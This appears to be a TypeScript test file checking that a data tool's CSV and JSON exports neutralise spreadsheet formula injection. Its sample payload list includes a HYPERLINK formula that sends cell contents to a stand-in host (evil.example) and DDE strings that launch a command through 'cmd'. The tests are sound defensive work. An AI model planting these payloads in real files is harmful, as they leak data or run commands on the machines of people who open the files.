import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { guardFormula, isFormulaLike, readTable } from '../../../src/data';
import type { FitSettingsDto } from '../../../src/protocol/model';
import { exportText } from '../../../src/worker/exportText';
import { runFit } from '../../../src/worker/runFit';

const settings = (columns: string[]): FitSettingsDto => ({
  columns, categorical: [], counts: [], components: { min: 2, max: 2 }, models: ['VVI'], standardize: false, nInit: 2, seed: 0,
  maxIter: 100, tol: 1e-3, regCovar: 1e-6, missing: 'em', init: 'portfolio', maxPoints: 100,
});

/** Reads `text` as `fileName`, fits x and y, and exports `kind`. */
function exported(fileName: string, text: string, kind: 'labels-csv' | 'labels-json', guard = true): string {
  const table = readTable(new TextEncoder().encode(text), { fileName });
  const outcome = runFit(table, fileName, settings(['x', 'y']), { isCancelled: () => false, onProgress: () => undefined, executorFor: () => undefined });
  return exportText(table, outcome, kind, { csvFormulaGuard: guard });
}

const rows = (n: number) => Array.from({ length: n }, (_, i) => [i % 2 ? 10 + (i % 5) : i % 5, i % 2 ? -20 - (i % 3) : i % 3]);
const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd', '\t=1+1', '\r=1+1'];

describe('exports are safe by default', () => {
  it('neutralises cells a spreadsheet would run as formulas, OWASP style, and leaves numbers alone', () => {
    for (const cell of HOSTILE) {
      assert.ok(isFormulaLike(cell), cell);
      assert.equal(guardFormula(cell), `"'${cell.replace(/"/g, '""')}"`);
    }
    for (const cell of ['-5', '+3', '-1.5e3', 'plain', '', 'a=b', ' =x']) assert.equal(isFormulaLike(cell), false, cell);
  });

  it('writes formula-like text of a CSV as inert text in the labelled CSV, numbers (negative too) as they were', () => {
    const lines = ['name,x,y', ...rows(20).map(([x, y], i) => `"${HOSTILE[i % HOSTILE.length].replace(/"/g, '""')}",${x},${y}`)];
    const csv = exported('evil.csv', lines.join('\n') + '\n', 'labels-csv');
    const out = readTable(new TextEncoder().encode(csv), { fileName: 'out.csv' });
    for (let r = 0; r < 20; r++) {
      assert.equal(out.cell(r, 0), `'${HOSTILE[r % HOSTILE.length]}`, `row ${r}`);
      assert.equal(out.cell(r, 2), String(rows(20)[r][1]), 'a negative number stays a number');
    }
    for (let r = 0; r < out.nRows; r++) {
      for (let c = 0; c < out.columns.length; c++) {
        const cell = out.cell(r, c) ?? '';
        assert.ok(!/^[=+@\t\r]/.test(cell) && !(cell.startsWith('-') && Number.isNaN(Number(cell))), `row ${r}, column ${c}: ${cell}`);
      }
    }
  });

  it('does the same for strings of a JSON file exported to CSV, and for column names', () => {
    const json = JSON.stringify(rows(20).map(([x, y], i) => ({ note: HOSTILE[i % HOSTILE.length], x, y, '=bad()': 1 })));
    const csv = exported('evil.json', json, 'labels-csv');
    const header = csv.split('\n')[0];
    assert.ok(header.includes(`"'=bad()"`), header);
    assert.ok(csv.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`));
  });

  it('writes cells verbatim when the guard is off', () => {
    const json = JSON.stringify(rows(20).map(([x, y]) => ({ note: '=1+1', x, y })));
    const csv = exported('f.json', json, 'labels-csv', false);
    assert.match(csv.split('\n')[1], /^=1\+1,/);
  });

  it('keeps numbers numbers and true/false booleans in the labelled JSON; text and stray cells stay strings', () => {
    const lines = ['x,y,flag,name', ...rows(30).map(([x, y], i) => `${i === 3 ? 'oops' : x},${y},${i % 2 ? 'TRUE' : 'false'},n${i}`)];
    const records = JSON.parse(exported('t.csv', lines.join('\n') + '\n', 'labels-json')) as Record<string, unknown>[];
    assert.equal(records[0].x, 0);
    assert.equal(records[1].y, -21);
    assert.equal(records[3].x, 'oops');
    assert.equal(records[1].flag, true);
    assert.equal(records[0].flag, false);
    assert.equal(records[0].name, 'n0');
    assert.equal(typeof records[0].cluster, 'number');
    assert.equal(typeof records[0].p_1, 'number');
  });
});
